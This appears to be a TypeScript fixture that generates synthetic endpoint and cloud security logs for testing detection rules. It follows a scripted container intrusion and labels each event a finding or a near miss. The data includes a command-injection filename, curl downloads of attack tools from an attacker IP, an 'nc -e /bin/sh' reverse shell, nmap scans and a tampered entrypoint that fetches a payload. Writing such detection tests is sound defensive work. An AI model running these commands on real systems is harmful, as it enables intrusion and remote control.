import { addresses, cast, containers, type Node } from "./cast.ts";
import {
  cloudFile,
  cloudProcess,
  endpointDns,
  endpointFile,
  endpointNetwork,
  endpointProcess,
  type Value,
} from "./documents.ts";
import { EGRESS, TOOL, type Dump, type FileName, type Recorded } from "./dump.ts";
import { patched } from "./patch.ts";
import { at, MS, SECOND, type Nanoseconds } from "./time.ts";
import { spawn, type Container, type Process, type SpawnOptions } from "./world.ts";

const ONE = "01-shop-node-1.ndjson";
const TWO = "02-shop-node-2.ndjson.gz";
const CLOUD = "03-cloud-defend.ndjson";
const FORWARDED = "05-forwarded-dotted.ndjson";

const SCRIPT = "/shared/bootstrap/entrypoint.sh";

/** A process that both agents of the first node report. */
function seenTwice(
  dump: Dump,
  parent: Process,
  executable: string,
  args: readonly string[],
  time: Nanoseconds,
): { readonly process: Process; readonly cloud: Recorded; readonly endpoint: Recorded } {
  const process = spawn(parent, executable, args, time);
  const cloud = dump.record(CLOUD, time, cloudProcess(process, time));
  return { process, cloud, endpoint: dump.record(ONE, time, endpointProcess(process, time)) };
}

/** The image service is exploited through the name of an upload, and tools are fetched. Returns the attacker's shell. */
function breakIn(dump: Dump): Process {
  const entry = at("09:04:11.48251");
  const upload = "/srv/media/upload/7f3a91c2;curl -fsS http://29.71.4.19/s -o /tmp/.x;.png";
  dump.record(ONE, entry - 30n * MS, endpointFile(cast.gunicorn, entry - 30n * MS, "creation", upload));
  const injected = seenTwice(dump, cast.gunicorn, "/bin/dash", ["sh", "-c", `identify -format %wx%h ${upload}`], entry);
  const fetch = seenTwice(
    dump,
    injected.process,
    "/usr/bin/curl",
    ["curl", "-fsS", "http://29.71.4.19/s", "-o", "/tmp/.x"],
    entry + 61n * MS,
  );
  const connection = dump.record(
    ONE,
    entry + 90n * MS,
    endpointNetwork(fetch.process, entry + 90n * MS, addresses.stage, 80),
  );
  dump.nearMiss(
    EGRESS,
    [connection],
    "the exploit fetches its script from a public address",
    "its parent is a shell of the web service, no entrypoint",
  );
  dump.record(ONE, entry + 130n * MS, endpointFile(fetch.process, entry + 130n * MS, "creation", "/tmp/.x"));
  const shell = seenTwice(dump, cast.gunicorn, "/bin/dash", ["sh", "/tmp/.x"], at("09:04:14.1")).process;
  for (const [n, args] of [
    ["id"],
    ["uname", "-a"],
    ["cat", "/proc/self/cgroup"],
    ["env"],
    ["ls", "-la", "/shared/bootstrap"],
  ].entries()) {
    seenTwice(dump, shell, `/usr/bin/${args[0] ?? ""}`, args, at("09:04:15") + BigInt(n) * 740n * MS);
  }
  for (const [n, tool] of ["nc", "nmap", "busybox", "socat"].entries()) {
    const t = at("09:05:20.2") + BigInt(n) * 3n * SECOND;
    const curl = seenTwice(
      dump,
      shell,
      "/usr/bin/curl",
      ["curl", "-fsSo", `/tmp/.t/${tool}`, `http://29.71.4.19/t/${tool}`],
      t,
    ).process;
    dump.record(ONE, t + 30n * MS, endpointNetwork(curl, t + 30n * MS, addresses.stage, 80));
    dump.record(CLOUD, t + 200n * MS, cloudFile(curl, t + 200n * MS, "creation", `/tmp/.t/${tool}`));
    seenTwice(dump, shell, "/usr/bin/chmod", ["chmod", "755", `/tmp/.t/${tool}`], t + 900n * MS);
  }
  return shell;
}

/** A reverse shell, scans of the neighbourhood, a look at the database. */
function lookAround(dump: Dump, shell: Process): void {
  const opening = at("09:06:40.118");
  const nc = seenTwice(dump, shell, "/tmp/.t/nc", ["nc", "-e", "/bin/sh", addresses.control, "4444"], opening);
  dump.finding(TOOL, [nc.cloud], "`nc` opens a reverse shell", "`process.name` is a tool");
  dump.nearMiss(TOOL, [nc.endpoint], "the same `nc`, as Elastic Defend saw it", "it carries no `container.id`");
  dump.record(ONE, opening + 15n * MS, endpointNetwork(nc.process, opening + 15n * MS, addresses.control, 4444));
  const closing = at("09:12:02.73");
  const over = dump.record(CLOUD, closing, cloudProcess(nc.process, closing, "end"));
  dump.nearMiss(TOOL, [over], "`nc` ends", '`event.type` is `["end"]`');

  const reverse = spawn(nc.process, "/bin/dash", ["/bin/sh"], opening + 200n * MS);
  const scan = seenTwice(dump, reverse, "/bin/dash", ["sh", "-c", "nmap", "-sn", "10.244.1.0/24"], at("09:07:15.5"));
  dump.finding(TOOL, [scan.cloud], "`sh -c nmap ...`, typed without quotes", "an element of `process.args` is a tool");
  const nmap = seenTwice(dump, scan.process, "/tmp/.t/nmap", ["nmap"], at("09:07:15.521"));
  dump.finding(TOOL, [nmap.cloud], "the `nmap` that this shell runs", "`process.name` is a tool");
  const quoted = seenTwice(
    dump,
    reverse,
    "/bin/dash",
    ["sh", "-c", "/tmp/.t/nmap -sn 10.244.1.0/24"],
    at("09:07:31.04"),
  );
  dump.nearMiss(
    TOOL,
    [quoted.cloud],
    '`sh -c "/tmp/.t/nmap -sn ..."`, with quotes',
    "the whole command is one argument, and equals no tool",
  );
  const loud = seenTwice(
    dump,
    reverse,
    "/tmp/.t/NMAP",
    ["/tmp/.t/NMAP", "-sT", "-p", "5432,6379,8000", "10.244.2.0/24"],
    at("09:08:02.9"),
  );
  dump.finding(TOOL, [loud.cloud], "a copy of nmap named `NMAP`", "`:` does not tell upper from lower case");
  const busybox = seenTwice(
    dump,
    reverse,
    "/tmp/.t/busybox",
    ["/tmp/.t/busybox", "nc", "-w", "3", "10.244.2.9", "5432"],
    at("09:09:30.25"),
  );
  dump.finding(TOOL, [busybox.cloud], "`busybox nc` knocks at the database", "an element of `process.args` is a tool");
  const socat = seenTwice(
    dump,
    reverse,
    "/usr/bin/timeout",
    ["timeout", "30", "socat", "-", "TCP:10.244.2.9:5432"],
    at("09:09:55.6"),
  );
  dump.finding(TOOL, [socat.cloud], "`timeout 30 socat ...`", "an element of `process.args` is a tool");
  const dig = seenTwice(
    dump,
    reverse,
    "/usr/bin/dig",
    ["dig", "+short", "report-worker.shop.svc.cluster.local"],
    at("09:10:21.07"),
  );
  dump.finding(TOOL, [dig.cloud], "`dig` asks for the next victim", "`process.name` is a tool");
  dump.record(
    ONE,
    at("09:10:21.09"),
    endpointDns(dig.process, at("09:10:21.09"), "report-worker.shop.svc.cluster.local", ["10.96.31.8"]),
  );

  const write = at("09:15:06.331");
  const change = dump.record(CLOUD, write, cloudFile(reverse, write, "modification", SCRIPT));
  dump.record(ONE, write, endpointFile(reverse, write, "modification", SCRIPT));
  dump.nearMiss(
    EGRESS,
    [change],
    "the shared `entrypoint.sh` is altered",
    "a file event: the cause of what follows, but neither stage of the rule",
  );
}

/** The runtime starts a container: its entrypoint, and the downloader that the attacker wrote into it. */
class Restart {
  readonly script: Process;
  readonly child: Process;
  readonly file: FileName;
  readonly dump: Dump;
  readonly time: Nanoseconds;

  constructor(
    dump: Dump,
    file: FileName,
    node: Node,
    inside: Container,
    time: Nanoseconds,
    options: SpawnOptions = {},
  ) {
    this.dump = dump;
    this.file = file;
    this.time = time;
    const more = { container: inside, entry: "container", user: "root", ...options } as const;
    this.script = spawn(node.shim, SCRIPT, ["/bin/sh", SCRIPT], time, more);
    const download = ["curl", "-fsS", "https://29.71.4.19/b", "-o", "/tmp/.b"];
    this.child = spawn(this.script, "/usr/bin/curl", download, time + 40n * MS);
  }

  begins(after = 0n): Recorded {
    return this.dump.record(this.file, this.time + after, endpointProcess(this.script, this.time + after));
  }

  connects(after: Nanoseconds, to: Value = addresses.stage, writtenAfter = after): Recorded {
    const t = this.time + after;
    const document = endpointNetwork(this.child, t, to, 443);
    return this.dump.record(this.file, t, document, { writtenAt: this.time + writtenAfter });
  }
}

/** The altered entrypoint runs wherever the report worker is started again, and calls out. */
function callOut(dump: Dump): void {
  const { node1, node2 } = cast;
  const { report, report2 } = containers;
  const on1 = (clock: string, options?: SpawnOptions): Restart =>
    new Restart(dump, ONE, node1, report, at(clock), options);
  const on2 = (clock: string, options?: SpawnOptions): Restart =>
    new Restart(dump, TWO, node2, report2, at(clock), options);

  const first = on1("09:18:20.1111111");
  dump.finding(
    EGRESS,
    [first.begins(), first.connects(1_700n * MS)],
    "the altered entrypoint downloads for the first time",
    "1.7 s after the start, to a public address",
  );
  const second = on1("09:19:02.25");
  dump.finding(EGRESS, [second.begins(), second.connects(2_900n * MS)], "the next restart", "after 2.9 s");
  const edge = on2("09:21:10.5");
  dump.finding(
    EGRESS,
    [edge.begins(), edge.connects(3_000n * MS)],
    "the clone node follows",
    "after exactly 3 s: `maxspan` is inclusive",
  );
  const over = on2("09:23:41.007");
  dump.nearMiss(EGRESS, [over.begins(), over.connects(3_001n * MS)], "a slow start", "3.001 s is more than `maxspan`");
  const nano = on2("09:25:10.000000007");
  dump.nearMiss(
    EGRESS,
    [nano.begins(), nano.connects(3_000n * MS + 1n)],
    "a start that is slower by one nanosecond",
    "3.000000001 s is more than `maxspan`; times count to the nanosecond",
  );
  const exact = on2("09:26:10.123456789");
  dump.finding(
    EGRESS,
    [exact.begins(), exact.connects(3_000n * MS)],
    "nanosecond times",
    "exactly 3 s, in nanoseconds",
  );

  const twice = on1("09:27:05.5");
  const overwritten = twice.begins();
  const latest = twice.begins(2_000n * MS);
  dump.finding(
    EGRESS,
    [latest, twice.connects(4_400n * MS)],
    "the script runs itself again in place (same process), then connects",
    "the latest start counts: 2.4 s",
  );
  dump.nearMiss(EGRESS, [overwritten], "the first of the two starts", "the second took its place");
  const repeated = on1("09:28:30.75");
  dump.finding(
    EGRESS,
    [repeated.begins(), repeated.connects(600n * MS)],
    "the first of two connections",
    "a start is used once, by the first connection",
  );
  dump.nearMiss(
    EGRESS,
    [repeated.connects(1_100n * MS, addresses.control)],
    "the second connection of that start",
    "the start is used up",
  );
  const inner = on1("09:29:40.3");
  const begin = inner.begins();
  dump.nearMiss(
    EGRESS,
    [inner.connects(150n * MS, "10.96.0.1")],
    "the entrypoint asks the cluster's API first",
    "10.96.0.1 is private, so it is no second stage and uses nothing up",
  );
  dump.finding(EGRESS, [begin, inner.connects(900n * MS)], "and then a public address", "the start is still there");
  const again = on1("09:30:50.1");
  dump.finding(
    EGRESS,
    [again.begins(), again.connects(200n * MS)],
    "started twice, connected twice, in turn: the first pair",
    "each start has its own connection",
  );
  dump.finding(
    EGRESS,
    [again.begins(700n * MS), again.connects(800n * MS)],
    "the second pair",
    "the same process, a new start",
  );
  const late = on1("09:31:30.1");
  dump.nearMiss(
    EGRESS,
    [late.begins(), late.connects(3_400n * MS), late.connects(3_500n * MS)],
    "both connections are too late",
    "the first one uses the start up and is rejected",
  );

  const reordered = on1("09:32:15.9");
  const early = reordered.connects(1_250n * MS, addresses.stage, -40_000n * MS);
  dump.finding(
    EGRESS,
    [reordered.begins(), early],
    "the line of the connection stands before that of its entrypoint",
    "events are ordered by time, not by line",
  );

  const entityId = on1("09:33:00").script.entityId;
  const original = on1("09:33:20", { entityId });
  const clone = on2("09:33:20.4", { entityId });
  dump.nearMiss(
    EGRESS,
    [original.begins(), clone.connects(500n * MS)],
    "entrypoint on one node, connection on its clone: the same entity id",
    "`host.id` differs",
  );
  const mine = on1("09:34:10", { entityId });
  const theirs = on2("09:34:10.4", { entityId });
  dump.finding(
    EGRESS,
    [mine.begins(), mine.connects(900n * MS)],
    "both nodes at once, the same entity id: the first node",
    "each host has its own sequence",
  );
  dump.finding(
    EGRESS,
    [theirs.begins(), theirs.connects(700n * MS)],
    "both nodes at once: the clone",
    "each host has its own sequence",
  );

  const crossing = on1("09:35:25.2");
  const elsewhere = new Restart(dump, FORWARDED, node1, report, at("09:35:25.2"), {
    entityId: crossing.script.entityId,
  });
  dump.finding(
    EGRESS,
    [crossing.begins(), elsewhere.connects(1_400n * MS)],
    "the connection is in another file, with dotted keys",
    "files are searched as one",
  );

  const zoned = on1("09:36:30.5");
  const begun = zoned.begins();
  const shifted = patched(
    endpointNetwork(zoned.child, at("09:36:32.75"), addresses.stage, 443, "connection_attempted", {
      offsetMinutes: 60,
    }),
    {},
  );
  const inZone = dump.record(ONE, at("09:36:32.75"), shifted);
  dump.finding(EGRESS, [begun, inZone], "the time of the connection is written with `+01:00`", "2.25 s later");
  const apart = on1("09:37:40");
  const hour = endpointNetwork(apart.child, at("08:37:41.5"), addresses.stage, 443, "connection_attempted", {
    offsetMinutes: 60,
  });
  dump.nearMiss(
    EGRESS,
    [apart.begins(), dump.record(ONE, at("08:37:41.5"), hour, { writtenAt: at("09:37:41.5") })],
    "`09:37:41.5+01:00` looks like 1.5 s later",
    "it is an hour earlier",
  );
  const epoch = on1("09:38:45.125");
  const millis = { epochMilliseconds: true };
  const number1 = dump.record(ONE, epoch.time, endpointProcess(epoch.script, epoch.time, "exec", millis));
  const number2 = dump.record(
    ONE,
    epoch.time + 3_000n * MS,
    endpointNetwork(epoch.child, epoch.time + 3_000n * MS, addresses.stage, 443, "connection_attempted", millis),
  );
  dump.finding(EGRESS, [number1, number2], "times in epoch milliseconds", "exactly 3 s");
}

/** An administrator looks at the traffic of the node, outside of any container; a forwarder wrote it with dotted keys. */
function administrate(dump: Dump): void {
  const shell = spawn(cast.node1.sshd, "/usr/bin/bash", ["-bash"], at("09:40:02.5"), {
    user: "ops",
    entry: "sshd",
    folder: "/home/ops",
  });
  const record = (process: Process): Recorded =>
    dump.record(FORWARDED, process.start, endpointProcess(process, process.start));
  record(shell);
  for (const [n, args] of [
    ["crictl", "ps"],
    ["journalctl", "-u", "kubelet", "-n", "50"],
    ["ls", "-la", "/shared/bootstrap"],
    ["sha256sum", SCRIPT],
  ].entries()) {
    record(spawn(shell, `/usr/bin/${args[0] ?? ""}`, args, at("09:40:20") + BigInt(n) * 9n * SECOND));
  }
  const tcpdump = record(
    spawn(shell, "/usr/bin/tcpdump", ["tcpdump", "-ni", "eth0", "host", addresses.stage], at("09:41:15.2"), {
      user: "root",
    }),
  );
  dump.nearMiss(
    TOOL,
    [tcpdump],
    "an administrator runs `tcpdump` on the node",
    "no `container.id`: outside of a container",
  );
}

/** The told story, from the upload to the morning after. */
export function recordStory(dump: Dump): void {
  lookAround(dump, breakIn(dump));
  callOut(dump);
  administrate(dump);
}
